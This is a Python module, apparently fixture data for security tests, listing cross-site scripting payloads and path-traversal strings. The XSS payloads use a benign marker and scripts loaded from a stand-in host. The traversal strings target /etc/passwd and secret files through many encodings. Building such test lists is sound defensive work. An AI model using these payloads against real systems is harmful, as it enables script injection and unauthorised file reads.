"""What an attacker writes where a page shows text, and where an address is turned into a file."""

from urllib.parse import quote

_CALL = "window.hit=1"

SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</ScRiPt>",
    f"<script/x>{_CALL}</script>",
    f"<<script>{_CALL};//<</script>",
    "<script src=http://elsewhere.example/x.js></script>",
    f"<img src=x onerror={_CALL}>",
    f"<img src='x' onerror='{_CALL}'>",
    f"<IMG SRC=x OnErRoR=\"{_CALL}\">",
    f"<img src=x:x onerror={_CALL}//",
    "<img src=http://elsewhere.example/pixel.png>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_CALL}'><text>x</text></a></svg>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}></select>",
    f"<textarea autofocus onfocus={_CALL}>x",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_CALL}'></iframe>",
    f"<object data='javascript:{_CALL}'></object>",
    "<embed src='http://elsewhere.example/x.swf'>",
    "<link rel=stylesheet href=http://elsewhere.example/x.css>",
    "<style>@import 'http://elsewhere.example/x.css';</style>",
    "<base href='http://elsewhere.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<form action='javascript:{_CALL}'><button>x</button></form>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_CALL}>",
    f"<template><img src=x onerror={_CALL}></template>",
    f"'><img src=x onerror={_CALL}>",
    f"\"><svg onload={_CALL}>",
    f"</textarea><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"--><script>{_CALL}</script><!--",
    f"[here](javascript:{_CALL}) ![x](http://elsewhere.example/x.png)",
    f"&lt;script&gt;{_CALL}&lt;/script&gt; {{{{ settings.secret }}}} {{% raw %}}",
    f"\u202e<script>{_CALL}</script>\u2066 ${{{_CALL}}}",
)  # fmt: skip

_UP = ("../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "..;/", "%252e%252e%252f", "..%c0%af", "/..")
_WHERE = ("secret.txt", "app.sqlite", "../secret.txt", "etc/passwd")
TRAVERSALS = tuple(f"{up * depth}{where}" for up in _UP for depth in (1, 3) for where in _WHERE[: 2 if depth == 1 else 1]) + tuple(
    quote(up * 6, safe="%") + "etc/passwd" for up in _UP
) + (
    "/etc/passwd", "//etc/passwd", "file:///etc/passwd", "\\\\server\\share", "C:\\secret.txt", "secret.txt%00.html",
    "%00", "..", ".", "~/secret.txt", "secret.txt::$DATA", "con", "a" * 4096, "\u2024\u2024/secret.txt", "%uff0e%uff0e/",
    "..%00/secret.txt",
)  # fmt: skip
